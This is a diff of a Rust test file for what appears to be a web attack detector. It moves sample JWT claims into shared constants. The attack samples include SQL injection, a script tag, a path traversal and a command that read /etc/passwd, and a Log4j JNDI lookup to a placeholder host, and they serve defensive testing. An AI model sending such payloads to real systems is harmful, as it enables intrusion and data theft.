@@ -878,6 +878,24 @@ fn assert_tokens(expect: bool, tokens: &[String]) {
     assert_header("Authorization", expect, &b);
 }
 
+/// Claims of one attack each: SQL in `sub`, markup in `name`, a traversal
+/// or a command in `kid`, a Log4j lookup.
+const JWT_ATTACK_CLAIMS: &[&str] = &[
+    r#"{"sub":"' or 1=1--","iat":1516239022}"#,
+    r#"{"name":"<script>alert(1)</script>"}"#,
+    r#"{"kid":"../../../../etc/passwd"}"#,
+    r#"{"kid":"key;cat /etc/passwd"}"#,
+    r#"{"user":"${jndi:ldap://x.example/a}"}"#,
+];
+
+/// Claims of real tokens: ids, names with an apostrophe, issuers, scopes.
+const JWT_BENIGN_CLAIMS: &[&str] = &[
+    r#"{"user":"alice","role":"user","exp":1700000000}"#,
+    r#"{"sub":"1234567890","name":"John O'Neil","iat":1516239022}"#,
+    r#"{"iss":"https://auth.example.com/","aud":["api"],"scope":"read:orders write:cart"}"#,
+    r#"{"email":"a.b@example.com","roles":["admin","editor"],"path":"/account/orders"}"#,
+];
+
 /// Session 10: attacks inside a JSON Web Token's claims (SQL in `sub`,
 /// markup in `name`, a traversal or a command in `kid`, a Log4j lookup)
 /// were never read: a dotted token with digits was taken for a plain id
@@ -885,20 +903,7 @@ fn assert_tokens(expect: bool, tokens: &[String]) {
 /// parameter, a form, JSON, a cookie and a Bearer token. Before: score 0.
 #[test]
 fn attacks_inside_jwt_claims() {
-    let attacks = [
-        r#"{"sub":"' or 1=1--","iat":1516239022}"#,
-        r#"{"name":"<script>alert(1)</script>"}"#,
-        r#"{"kid":"../../../../etc/passwd"}"#,
-        r#"{"kid":"key;cat /etc/passwd"}"#,
-        r#"{"user":"${jndi:ldap://x.example/a}"}"#,
-    ];
-    let benign = [
-        r#"{"user":"alice","role":"user","exp":1700000000}"#,
-        r#"{"sub":"1234567890","name":"John O'Neil","iat":1516239022}"#,
-        r#"{"iss":"https://auth.example.com/","aud":["api"],"scope":"read:orders write:cart"}"#,
-        r#"{"email":"a.b@example.com","roles":["admin","editor"],"path":"/account/orders"}"#,
-    ];
-    for (expect, claims) in [(true, &attacks[..]), (false, &benign[..])] {
+    for (expect, claims) in [(true, JWT_ATTACK_CLAIMS), (false, JWT_BENIGN_CLAIMS)] {
         let tokens: Vec<String> = claims.iter().map(|c| jwt(c)).collect();
         assert_tokens(expect, &tokens);
     }
@@ -1436,19 +1441,7 @@ fn path_blocked(path: &str) -> bool {
 /// Before: score 0 each.
 #[test]
 fn attacks_inside_jwt_claims_in_the_path() {
-    let attacks = [
-        r#"{"sub":"' or 1=1--","iat":1516239022}"#,
-        r#"{"name":"<script>alert(1)</script>"}"#,
-        r#"{"kid":"../../../../etc/passwd"}"#,
-        r#"{"kid":"key;cat /etc/passwd"}"#,
-        r#"{"user":"${jndi:ldap://x.example/a}"}"#,
-    ];
-    let benign = [
-        r#"{"user":"alice","role":"user","exp":1700000000}"#,
-        r#"{"sub":"1234567890","name":"John O'Neil","iat":1516239022}"#,
-        r#"{"email":"a.b@example.com","purpose":"reset","path":"/account/orders"}"#,
-    ];
-    for (expect, claims) in [(true, &attacks[..]), (false, &benign[..])] {
+    for (expect, claims) in [(true, JWT_ATTACK_CLAIMS), (false, JWT_BENIGN_CLAIMS)] {
         for c in claims {
             let t = jwt(c);
             for path in [
